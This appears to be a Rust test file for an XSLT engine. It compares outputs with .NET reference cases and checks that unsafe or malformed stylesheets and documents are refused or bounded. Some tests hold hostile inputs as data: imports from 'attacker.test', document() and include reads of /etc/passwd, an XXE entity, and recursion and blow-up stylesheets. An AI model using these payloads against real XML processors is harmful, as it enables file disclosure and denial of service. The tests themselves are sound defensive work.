//! Cases of `tests/xslt`: stylesheets, documents and what .NET made of them; and what is refused or bounded.

use uppsala::{Document, NodeId, NodeKind};

use super::{Error, Limits, Stylesheet};
use crate::xml::{Attribute, Element, Node, Position, Text};

/// The outermost element that a case leaves out.
const OUTER: &str = "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' \
                     xmlns:msxsl='urn:schemas-microsoft-com:xslt' exclude-result-prefixes='msxsl'>";

/// The element as the reader of policies would give it.
fn element(document: &Document<'_>, at: NodeId) -> Element {
    let own = document.element(at).unwrap();
    let place = Position::default();
    let attribute =
        |name: String, value: &str| Attribute { name: name.into(), value: value.to_owned(), at: place };
    let mut attributes = Vec::new();
    for (prefix, namespace) in &own.namespace_declarations {
        let name = if prefix.is_empty() { "xmlns".to_owned() } else { format!("xmlns:{prefix}") };
        attributes.push(attribute(name, namespace));
    }
    for one in &own.attributes {
        let name = one.name.prefixed_name().into_owned();
        if !name.starts_with("xmlns") {
            attributes.push(attribute(name, &one.value));
        }
    }
    let child = |at: NodeId| match document.node_kind(at)? {
        NodeKind::Element(_) => Some(Node::Element(element(document, at))),
        NodeKind::Text(text) | NodeKind::CData(text) => {
            Some(Node::Text(Text { value: text.to_string(), at: place }))
        }
        _ => None,
    };
    let children = document.children_iter(at).filter_map(child).collect();
    Element { name: own.name.prefixed_name().into(), attributes, children, at: place, span: 0..0 }
}

fn compiled(sheet: &str) -> Result<Stylesheet, Error> {
    let whole = if sheet.starts_with("<xsl:stylesheet") {
        sheet.to_owned()
    } else {
        format!("{OUTER}{sheet}</xsl:stylesheet>")
    };
    let document = crate::markup::read(&whole).map_err(|error| Error::new(error.to_string()))?;
    Stylesheet::compile(&element(&document, document.document_element().unwrap()))
}

fn transformed(sheet: &str, input: &str, limits: Limits) -> Result<String, Error> {
    let parameters = [("given".to_owned(), "a'b".to_owned())];
    let made = compiled(sheet)?.transform(input, &parameters, limits)?;
    Ok(String::from_utf8_lossy(&made).into_owned())
}

/// Blocks `## name`, the stylesheet, `--- input`, the document, `--- output`, the result or `! message`.
fn check(cases: &str) {
    let (mut wrong, mut count) = (String::new(), 0);
    for case in cases.split("\n## ").skip(1) {
        let (name, rest) = case.split_once('\n').unwrap();
        let (sheet, rest) = rest.split_once("\n--- input\n").unwrap();
        let (input, output) = rest.split_once("\n--- output\n").unwrap();
        count += 1;
        let found = transformed(sheet, input.trim_end(), Limits::default())
            .unwrap_or_else(|error| format!("! {error}"));
        if found.trim_end() != output.trim_end() {
            wrong.push_str(&format!(
                "## {name}\nwanted {}\nfound  {}\n",
                output.trim_end(),
                found.trim_end()
            ));
        }
    }
    assert!(count > 5, "the cases are cut short: {count}");
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn instructions() {
    check(include_str!("../../tests/xslt/instructions.txt"));
}

#[test]
fn output() {
    check(include_str!("../../tests/xslt/output.txt"));
}

#[test]
fn xpath() {
    check(include_str!("../../tests/xslt/xpath.txt"));
}

/// .NET compares with the culture's tables, which the machine that made the cases did not have.
#[test]
fn texts_sort_without_regard_to_case_first() {
    let sheet = |order: &str| {
        format!(
            "<xsl:output method='text'/><xsl:template match='/'><xsl:for-each select='//i'><xsl:sort {order}/>\
                 <xsl:value-of select='.'/>;</xsl:for-each></xsl:template>"
        )
    };
    let input = "<a><i>b</i><i>A</i><i>abc</i><i>B</i><i>a</i><i>ab</i></a>";
    for (order, wanted) in [
        ("", "a;A;ab;abc;b;B;"),
        ("case-order='upper-first'", "A;a;ab;abc;B;b;"),
        ("order='descending'", "B;b;abc;ab;A;a;"),
    ] {
        assert_eq!(transformed(&sheet(order), input, Limits::default()).as_deref(), Ok(wanted), "{order}");
    }
}

#[test]
fn encodings_are_those_of_the_output() {
    for (encoding, wanted) in [
        ("iso-8859-1", &b"<a>\xE9&#x20AC;</a>"[..]),
        (
            "utf-16",
            &[0xFF, 0xFE, b'<', 0, b'a', 0, b'>', 0, 0xE9, 0, 0xAC, 0x20, b'<', 0, b'/', 0, b'a', 0, b'>', 0],
        ),
    ] {
        let sheet = format!(
            "<xsl:output encoding='{encoding}' omit-xml-declaration='yes'/><xsl:template match='/'><a>\u{e9}\u{20ac}</a></xsl:template>"
        );
        let made = compiled(&sheet).and_then(|sheet| sheet.transform("<x/>", &[], Limits::default()));
        assert_eq!(made.as_deref(), Ok(wanted), "{encoding}");
    }
}

#[test]
fn what_reaches_out_or_is_wrong_does_not_compile() {
    for sheet in [
        "<xsl:import href='http://attacker.test/'/>",
        "<xsl:include href='file:///etc/passwd'/>",
        "<xsl:template match='/'><xsl:value-of select=\"document('file:///etc/passwd')\"/></xsl:template>",
        "<xsl:template match='/'><xsl:value-of select=\"document ('')\"/></xsl:template>",
        "<xsl:template match='/'><a b=\"{document('x')}\"/></xsl:template>",
        "<msxsl:script language='C#' implements-prefix='msxsl'>x</msxsl:script>",
        "<xsl:template match='/'><xsl:value-of select='('/></xsl:template>",
        "<xsl:template match='/'><xsl:value-of select='nope()'/></xsl:template>",
        "<xsl:template match='/'><xsl:value-of select='count()'/></xsl:template>",
        "<xsl:template match='/'><xsl:value-of select='p:a'/></xsl:template>",
        "<xsl:template match='/'><xsl:call-template name='nope'/></xsl:template>",
        "<xsl:template match='a[' />",
        "<xsl:template match='ancestor::a' />",
        "<xsl:template/>",
        "<xsl:template match='/'><xsl:nope/></xsl:template>",
        "<xsl:template match='/'><xsl:if/></xsl:template>",
        "<xsl:template match='/'><xsl:choose/></xsl:template>",
        "<xsl:template match='/'><a b='{'/></xsl:template>",
        "<xsl:template match='/'><xsl:copy use-attribute-sets='nope'/></xsl:template>",
        "<xsl:template name='a'/><xsl:template name='a'/>",
        "<xsl:variable name='a'/><xsl:param name='a'/>",
        "<xsl:output method='pdf'/>",
        "<xsl:output encoding='ebcdic'/>",
        "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>",
    ] {
        assert!(compiled(sheet).is_err(), "{sheet}");
    }
    let deep = format!(
        "<xsl:template match='/'><xsl:value-of select='{}1{}'/></xsl:template>",
        "(".repeat(500),
        ")".repeat(500)
    );
    assert!(compiled(&deep).is_err());
    let long =
        format!("<xsl:template match='/'><xsl:value-of select='1{}'/></xsl:template>", "+1".repeat(5000));
    assert!(compiled(&long).is_err());
}

#[test]
fn what_never_ends_or_grows_is_ended() {
    let text = format!("<a>{}</a>", "<b>xxxxxxxxxx</b>".repeat(500));
    for (sheet, problem) in [
        (
            "<xsl:template match='/'><xsl:call-template name='t'/></xsl:template><xsl:template name='t'><xsl:call-template name='t'/></xsl:template>",
            "too deeply",
        ),
        ("<xsl:template match='/'><xsl:apply-templates select='/'/></xsl:template>", "too deeply"),
        (
            "<xsl:template match='/'><xsl:for-each select='//*'><xsl:for-each select='//*'><xsl:copy-of select='/'/></xsl:for-each></xsl:for-each></xsl:template>",
            "too large",
        ),
        (
            "<xsl:template match='/'><xsl:for-each select='//*'><xsl:for-each select='//*'><xsl:variable name='v'><xsl:copy-of select='/'/></xsl:variable></xsl:for-each></xsl:for-each></xsl:template>",
            "too large",
        ),
        (
            "<xsl:template match='/'><xsl:value-of select='count(//*[count(//*[count(//*) > 1]) > 1])'/></xsl:template>",
            "too many steps",
        ),
        (
            "<xsl:template match='/'><xsl:call-template name='t'><xsl:with-param name='s' select='/'/></xsl:call-template></xsl:template><xsl:template name='t'><xsl:param name='s'/><xsl:call-template name='t'><xsl:with-param name='s' select='concat($s, $s)'/></xsl:call-template></xsl:template>",
            "too",
        ),
        (
            "<xsl:variable name='a' select='$b'/><xsl:variable name='b' select='$a'/><xsl:template match='/'/>",
            "own value",
        ),
        (
            "<xsl:attribute-set name='s' use-attribute-sets='s'/><xsl:template match='/'><x xsl:use-attribute-sets='s'/></xsl:template>",
            "too deeply",
        ),
    ] {
        let error = transformed(sheet, &text, Limits::default()).unwrap_err();
        assert!(error.message.contains(problem), "{sheet}: {error}");
    }
}

#[test]
fn documents_with_dtds_or_errors_are_refused() {
    for input in ["<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "<a>", "", "text"] {
        assert!(transformed("<xsl:template match='/'/>", input, Limits::default()).is_err(), "{input}");
    }
}
